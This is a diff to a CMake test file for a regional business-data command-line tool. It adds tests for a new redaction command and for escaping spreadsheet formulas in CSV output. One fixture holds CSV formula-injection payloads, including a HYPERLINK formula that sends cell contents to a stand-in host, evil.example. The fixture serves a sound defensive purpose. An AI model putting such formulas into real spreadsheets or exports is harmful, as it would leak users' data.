@@ -128,7 +128,7 @@ expect("  regions                     region codes and names" out)
 set(commands
   "regions check" "regions lookup" "regions search" "regions diff" "kbli lookup" "kbli search"
   "kbli diff" "data" "cluster report" "case check" "case overdue" "case open311 export"
-  "case open311 import" "validate" "fmt" "schema" "import enterprises" "export enterprises"
+  "case open311 import" "validate" "fmt" "redact" "schema" "import enterprises" "export enterprises"
   "aggregate" "map" "scale" "init" "completion")
 foreach(c IN LISTS commands)
   separate_arguments(words UNIX_COMMAND "${c}")
@@ -713,6 +713,22 @@ expect_not("Andi Sampel" err)
 run(0 validate "${MKS}")
 expect_not("too_few_members" out)
 expect("sentra validate: 1 file, 1 record, 0 errors, 5 warnings: valid" out)
+# A copy to share (issue 39): the document on standard output without the owners, what was
+# removed on standard error, one part for each kind; the copy validates.
+run(0 redact "${MKS}")
+expect("makassar.json: removed 6 owner records; removed 6 addresses\n" err)
+expect_not("7371044501900002" out)
+expect_not("Andi Sampel" out)
+expect_not("0811" out)
+expect("\"name\": \"Coto Daeng Sampel (sample data)\"" out)
+file(WRITE "${WORK}/officer/shared.json" "${out}")
+run(0 validate "${WORK}/officer/shared.json")
+run(0 redact "${WORK}/officer/shared.json" --lang id)
+expect("shared.json: tidak ada data pribadi\n" err)
+run(2 redact)
+run(2 redact "${WORK}/officer/missing.json")
+expect("missing.json: error: file not found" err)
+run(1 redact "${TEST_DATA}/open311_specification_example.json")
 run(0 cluster report "${MKS}" --format html --now 2026-12-07T09:00:00+08:00)
 expect("Sentra Kuliner Pantai Losari" out)
 expect("Kecamatan Ujung Pandang" out)
@@ -759,6 +775,26 @@ expect("wilayah,nama_wilayah,kbli,judul_kbli,ukuran,di_wilayah,total_wilayah,bas
 expect("32.76.07,\"Cipayung, Kota Depok, Jawa Barat\",14,Industri Pakaian Jadi,tenaga kerja,30,35,32,Jawa Barat,40,60,1.2857142857142858,1.2857142857142858,ya\n" out)
 run(0 map "${WORK}/split/whole.agg" --level regency --kbli section --format csv --lang en)
 expect("32.76,\"Kota Depok, Jawa Barat\",C,Manufacturing,enterprises,8,8,national,Indonesia,10,10,1,1,yes\n" out)
+# The map's CSV runs no formula (issue 39): reference data whose names start one (=, +, -,
+# @, after a space or a quote), each cell written as text that reads back as the name.
+set(HOSTILE "${WORK}/hostile_data")
+file(REMOVE_RECURSE "${HOSTILE}")
+file(MAKE_DIRECTORY "${HOSTILE}/regions/2025")
+file(COPY "${DATA}/kbli" DESTINATION "${HOSTILE}")
+file(WRITE "${HOSTILE}/regions/2025/provinces.csv" "code,name\n32,@cmd\n")
+file(WRITE "${HOSTILE}/regions/2025/regencies.csv" "code,province_code,name\n32.76,32,Kota Depok\n")
+file(WRITE "${HOSTILE}/regions/2025/districts.csv" "code,regency_code,name\n32.76.07,32.76,\"=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"klik\"\")\"\n32.76.01,32.76, +SUM(1+1)\n32.76.02,32.76,-2+3\n")
+file(WRITE "${HOSTILE}/regions/2025/villages.csv" "code,district_code,name\n32.76.07.1002,32.76.07,Cipayung Jaya\n32.76.01.1001,32.76.01,Sawangan\n32.76.02.1001,32.76.02,Pancoran Mas\n")
+file(WRITE "${WORK}/hostile.ndjson" "{\"id\":\"a\",\"name\":\"A\",\"village\":\"32.76.07.1002\",\"kbli\":[\"14111\"]}\n{\"id\":\"b\",\"name\":\"B\",\"village\":\"32.76.01.1001\",\"kbli\":[\"10710\"]}\n{\"id\":\"c\",\"name\":\"C\",\"village\":\"32.76.02.1001\",\"kbli\":[\"10710\"]}\n")
+run(0 aggregate "${WORK}/hostile.ndjson" --by district,division --data "${HOSTILE}" --classification kbli2020)
+file(WRITE "${WORK}/hostile.agg" "${out}")
+run(0 map "${WORK}/hostile.agg" --level district --kbli division --format csv --data "${HOSTILE}")
+expect("32.76.07,\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"klik\"\"), Kota Depok, @cmd\",14," out)
+expect("32.76.01,\"' +SUM(1+1), Kota Depok, @cmd\",10," out)
+expect("32.76.02,\"'-2+3, Kota Depok, @cmd\",10," out)
+# The national base's name and the province's, alone in their cells.
+run(0 map "${WORK}/hostile.agg" --level province --kbli division --format csv --data "${HOSTILE}")
+expect("32,\"'@cmd\",10," out)
 # Usage and bad parts.
 run(2 aggregate "${REGISTRY}")
 expect("aggregate needs --by" err)
